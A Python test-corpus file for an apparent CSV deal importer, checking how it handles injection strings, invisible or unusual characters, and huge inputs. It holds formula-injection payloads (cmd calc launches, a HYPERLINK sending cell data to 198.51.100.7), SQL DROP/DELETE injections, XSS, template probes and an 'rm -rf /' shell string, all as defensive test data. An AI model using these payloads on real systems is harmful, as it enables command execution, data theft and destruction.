"""Text that is a command to some other program, text nobody can see, and text of every size."""

from __future__ import annotations

from dataclasses import replace

from tests.corpus.case import (
    DEALS,
    GOOD,
    HEADER,
    WON,
    Case,
    Imported,
    Refused,
    case,
    column,
    deals,
    many,
    table,
    won_of,
)

PLAIN = table(DEALS)
FREE = ("Deal Name", "Account", "Owner", "Stage")


def _everywhere(name: str, text: str) -> Case:
    """One deal has the text in every column: what is typed is refused, what is free is kept as it stands."""
    rows = deals({"D2": dict.fromkeys(HEADER[1:], text)})
    wrong = tuple((3, column, "not") for column in ("Amount", "Currency", "Created", "Close Date"))
    expect = Imported(rejected=wrong, won={"USD": 10000}, deals=5)
    return case(f"everywhere_{name}", table(rows), expect, mend={3: dict(zip(HEADER, DEALS[1], strict=True))})


def _kept(name: str, text: str, key: str = "D2") -> Case:
    """One deal has the text in every free column, and keeps it."""
    rows = deals({key: {"Deal Name": text, "Account": text, "Owner": text}})
    return case(f"kept_{name}", table(rows), replace(GOOD, cells={key: {"name": text, "account": text, "owner": text}}))


COMMANDS = (
    _everywhere("formula_equals", "=cmd|' /C calc'!A0"),
    _everywhere("formula_plus", "+SUM(1+1)*cmd|' /C calc'!A0"),
    _everywhere("formula_at", "@SUM(1+9)*cmd|' /C calc'!A0"),
    _everywhere("formula_hyperlink", '=HYPERLINK("http://198.51.100.7/?"&A1,"click")'),
    _everywhere("sql", "x'); DROP TABLE deal; --"),
    _everywhere("html", "<script>alert(1)</script><img src=x onerror=alert(1)>"),
    _everywhere("template", "{{ 7*7 }}${7*7}<%= 7*7 %>{% raw %}"),
    _kept("formula_minus", "-2+3+cmd|' /C calc'!A0"),
    _kept("sql", "'; DELETE FROM deal WHERE ''='"),
    _kept("html", "<b>&amp;</b> \"quoted\" 'single'"),
    _kept("template", "{{ config }} %s {0} $(id) `id`"),
    _kept("null_word", "NULL"),
    _kept("shell", "$(reboot); rm -rf / & echo"),
    case("stages_of_yaml",
         table(column("Stage", ["Won", "Won", "no", "2026-01-01", "{a: b}", "- x: 'y' #z"])), GOOD),
    case("stages_of_yaml_more", table(column("Stage", ["Won", "Won", "null", "1e3", "!tag &a *b", '"q": |'])), GOOD),
    case("stages_with_line_break", table(column("Stage", ["Won", "Won", "Lost\nagain", "on", "~", "%x"])), GOOD),
)  # fmt: skip
UNSEEN = (
    case("nul_in_a_cell", PLAIN.replace("Beta", "Be\0ta"), replace(GOOD, warns=("NUL",))),
    case("nul_padding_at_end", PLAIN + "\0" * 40, replace(GOOD, warns=("NUL",))),
    case("nul_only", b"\0" * 4096, Refused(("not text|empty|NUL",))),
    case("control_characters", PLAIN.replace("Beta", "B\x01e\x02t\x03a\x07\x08\x1b[31m"), replace(GOOD, cells={})),
    case("end_of_file_mark", PLAIN + "\x1a", GOOD),
    case("zero_width_inside", PLAIN.replace("Beta", "Be\u200bta"), replace(GOOD, cells={"D2": {"amount": 25050}})),
    _kept("right_to_left", "\u202eevitcepsrep\u202c שלום"),
    _kept("arabic", "شركة النفط \u200fالوطنية"),
    _kept("emoji", "🚀 Ren🧑🏽‍🚀ewal 🇩🇪"),
    _kept("astral_letters", "𝔄𝔠𝔪𝔢 𠮷野家"),
    _kept("piled_marks", "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢LGO"),
    case("emoji_everywhere_in_header", table([[*row, "x"] for row in DEALS], [*HEADER, "🚀"]), GOOD),
)  # fmt: skip
SIZES = (
    case("cell_of_1_mb", PLAIN.replace("Beta", "B" * 1_000_000), replace(GOOD, cells={"D2": {"amount": 25050}})),
    case("cell_of_20_mb", PLAIN.replace("Beta", "B" * 20_000_000), replace(GOOD, cells={"D3": {"amount": 7525}}),
         either=Imported(rejected=((3, "", "long|large|size|field|characters"),), won={"USD": 10000}), alone=True),
    case("quoted_cell_of_1_mb_of_lines", PLAIN.replace("Beta", '"' + "note\n" * 900 + "x" * 900_000 + '"'),
         replace(GOOD, cells={"D3": {"amount": 7525}})),
    case("rows_100000", table(many(100_000)), Imported(read=100_000, won=won_of(100_000), deals=100_000), alone=True, slow=True),
    case("line_of_1000000_empty_cells", PLAIN + "D7" + "," * 1_000_000 + "\n",
         Imported(read=7, won=WON, deals=7), alone=True,
         either=Imported(read=7, won=WON, deals=6, rejected=((8, "", "fields|no "),))),
    case("header_of_1000000_empty_names", "\n".join([PLAIN.splitlines()[0] + "," * 1_000_000, *PLAIN.splitlines()[1:]]),
         Refused(("columns|fields|wide",)), alone=True, either=GOOD),
    case("one_line_of_5_mb", "x" * 5_000_000, Refused(("not recognised|delimiter|column|rows",)), alone=True),
    case("lines_of_one_letter", "x\n" * 50_000, Refused(("not recognised|delimiter|column",))),
)  # fmt: skip
CASES = (*COMMANDS, *UNSEEN, *SIZES)
